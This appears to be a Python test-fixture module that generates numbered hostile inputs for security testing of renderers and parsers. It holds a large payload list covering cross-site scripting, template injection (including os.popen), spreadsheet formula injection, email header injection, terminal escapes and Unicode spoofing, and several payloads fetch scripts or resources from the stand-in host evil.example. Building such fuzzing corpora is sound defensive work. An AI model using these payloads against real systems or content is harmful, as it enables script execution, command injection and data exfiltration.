"""Texts that want to be more than text: every vector, then vector × encoding × context by chance.

Each has a number. A script in it calls `alert` with that number, an address in it is at EVIL, so that what
ran or was asked for can be told from what was only shown.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

EVIL = "evil.example"
MOST = 118  # characters: a text fits into a name

_MARKUP = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<IMG SRC=x OnErRoR=alert({n})>",
    "<img/src/onerror=alert({n})>",
    "<img src=x onerror=alert({n})//",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<<script>alert({n})//<</script>",
    "<script src=//{evil}/{n}.js></script>",
    "<details open ontoggle=alert({n})>x",
    "<input autofocus onfocus=alert({n})>",
    '<iframe srcdoc="<script>parent.alert({n})</script>">',
    "<iframe src=javascript:alert({n})>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<a href=javascript:alert({n})>press</a>",
    "<form action=javascript:alert({n})><button>press</button></form>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})>",
    "<body onload=alert({n})>",
    "<marquee onstart=alert({n})>x</marquee>",
    "<x tabindex=1 autofocus onfocus=alert({n})>x</x>",
    "<style onload=alert({n})></style>",
    '<style>@import "//{evil}/{n}";</style>',
    "<link rel=stylesheet href=//{evil}/{n}>",
    "<link rel=dns-prefetch href=//n{n}.{evil}>",
    '<meta http-equiv=refresh content="0;url=//{evil}/{n}">',
    "<base href=//{evil}/>",
    "<img src=//{evil}/{n}>",
    "<div style='position:fixed;inset:0;background:url(//{evil}/{n})'>x</div>",
    # What parsers mend into something else.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "<select><style></select><img src=x onerror=alert({n})></style>",
    "<svg></p><style><a id='</style><img src=x onerror=alert({n})>'>",
)
_BREAKING_OUT = (
    '" autofocus onfocus=alert({n}) onmouseover=alert({n}) x="',
    "' autofocus onfocus=alert({n}) onmouseover=alert({n}) x='",
    '"><img src=x onerror=alert({n})>',
    "'><svg onload=alert({n})>",
    "</title><script>alert({n})</script>",
    "</textarea><img src=x onerror=alert({n})>",
    "</script><script>alert({n})</script>",
    "--><img src=x onerror=alert({n})><!--",
    "]]><img src=x onerror=alert({n})>",
    "';alert({n});'",
    '"}});alert({n});//',
)
_LINKS = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "\x01javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "https://user@{evil}/{n}",
    "//{evil}/{n}",
)
_MARKDOWN = (
    "[press](javascript:alert({n}))",
    "[press](java&#x09;script:alert({n}))",
    "[press](<java\tscript:alert({n})>)",
    "[press]: javascript:alert({n})\n[press]",
    "<javascript:alert({n})>",
    "![x](//{evil}/{n})",
    "![x](https://{evil}/{n}.png)",
    "[x](https://ok.example \"'onmouseover=alert({n}) x='\")",
    "[<img src=x onerror=alert({n})>](https://ok.example)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)",
)
_TEMPLATES = (
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id') }}}}{n}",
    "${{alert({n})}}<%= 7*7 %>#{{7*7}}",
)
_CELLS = (
    "=cmd|'/C calc'!A{n}",
    "+1+cmd|'/C calc'!A{n}",
    "-2+3+cmd|'/C calc'!A{n}",
    "@SUM(1+{n})*cmd|'/C calc'!A0",
    "\t=1+{n}",
    "\r=1+{n}",
    "\x00=1+{n}",
    '=HYPERLINK("http://{evil}/{n}","press")',
    "\uff1d1+{n}",
)
_LINES = (
    "x{n}\r\nBcc: all@{evil}",
    "x{n}\nContent-Type: text/html\n\n<script>alert({n})</script>",
    "x{n}\r\n.\r\nMAIL FROM:<a@{evil}>",
    "=?utf-8?q?=0D=0ABcc:_all@{evil}?= {n}",
    "x{n}\n2026-01-01 00:00:00 ERROR care forged",
    "\x1b]0;x{n}\x07\x1b[2J\x1b[31mred",
)
_DIRECTION = (
    "\u202egnp.exe {n}",
    "\u2067\u2067\u2067 {n} \u202e abc",
    "CC-000001\u202e {n} \u2066 paid \u2069",
    "\u0645\u0631\u062d\u0628\u0627 {n} \u05e9\u05dc\u05d5\u05dd",
)
_PILES = (
    "Z" + "\u0301\u0327\u0489" * 30 + "{n}",
    "\u0e01" + "\u0e49" * 60 + "{n}",
    "\U0001f468" + "\u200d\U0001f468" * 30 + "{n}",
    "{n}" + "W" * 100,
    "```\n{n}" + "W" * 100 + "\n```",
    "{n}" + "\u00a0" * 100 + "x",
    "{n}" + "\u200b\u2060\ufeff" * 30 + "x",
    "\U000e0041" * 50 + "{n}",
)
VECTORS = (
    *_MARKUP,
    *_BREAKING_OUT,
    *_LINKS,
    *_MARKDOWN,
    *_TEMPLATES,
    *_CELLS,
    *_LINES,
    *_DIRECTION,
    *_PILES,
)


def _each(shape: str) -> Callable[[str], str]:
    """An encoding that writes every character of markup by its number."""
    return lambda text: "".join(shape.format(ord(c)) if c in "<>\"'&=():/" else c for c in text)


ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "named": lambda text: html.escape(text, quote=True),
    "decimal": _each("&#{};"),
    "hexadecimal": _each("&#x{:x};"),
    "padded": _each("&#{:07}"),
    "twice": lambda text: html.escape(html.escape(text)),
    "per cent": lambda text: quote(text, safe=""),
    "escaped": _each("\\u{:04x}"),
    "full width": lambda text: "".join(chr(ord(c) + 0xFEE0) if c in "<>\"'&=():/" else c for c in text),
    "zero width": lambda text: text.replace("<", "<\u200b").replace("(", "\u200b("),
    "nul": lambda text: text.replace("s", "s\x00"),
    "capitals": lambda text: text.replace("script", "ScRiPt").replace("src", "SRC").replace("on", "ON"),
}
CONTEXTS = (
    "{}",
    "It says {} now.",
    '">{}',
    "'>{}",
    "[{}](https://ok.example)",
    "[press]({})",
    "**{}**",
    "`{}`",
    "```\n{}\n```",
    "- {}\n- x",
    "> {}",
    "<!-- {} -->",
    "<![CDATA[{}]]>",
    "<a href='{}'>x</a>",
    '<p title="{}">x</p>',
    "<{}",
)


@dataclass(frozen=True)
class Hostile:
    """A text and what it is made of."""

    number: int
    text: str
    made_of: str


def hostile_texts(count: int, dice: random.Random) -> list[Hostile]:
    """All vectors as they are, then by chance in encodings and contexts; at least the vectors, else `count`."""
    found = {vector.format(n=number, evil=EVIL): (number, vector) for number, vector in enumerate(VECTORS)}
    texts = [Hostile(number, text, vector) for text, (number, vector) in found.items()]
    return texts + [next(more) for more in [_mixed(set(found), dice)] for _ in range(count - len(texts))]


def _mixed(known: set[str], dice: random.Random) -> Iterator[Hostile]:
    number = len(VECTORS)
    while True:
        vector, encoding, context = dice.choice(VECTORS), dice.choice(list(ENCODINGS)), dice.choice(CONTEXTS)
        text = context.format(ENCODINGS[encoding](vector.format(n=number, evil=EVIL)))
        if len(text) <= MOST and text not in known:
            known.add(text)
            yield Hostile(number, text, f"{vector} / {encoding} / {context}")
            number += 1


# The names that an address may have by the letter of the standard.
MAILBOXES = (
    "=cmd|'calc'!a{n}@{evil}",
    "+1+{n}@{evil}",
    "-2+{n}@{evil}",
    "'/**/onload=1/**/{n}@{evil}",
    "{{{{7*7}}}}{n}@{evil}",
    "`{n}`@{evil}",
    "%0d%0abcc_{n}@{evil}",
    "&lt;svg/onload=1&gt;{n}@{evil}",
)
"""`&lt;` and `;` are not letters of an address: the last is refused, and so its partner has none."""


def mailbox(number: int) -> str:
    """A different address for each number."""
    return MAILBOXES[number % len(MAILBOXES)].format(n=number, evil=EVIL)
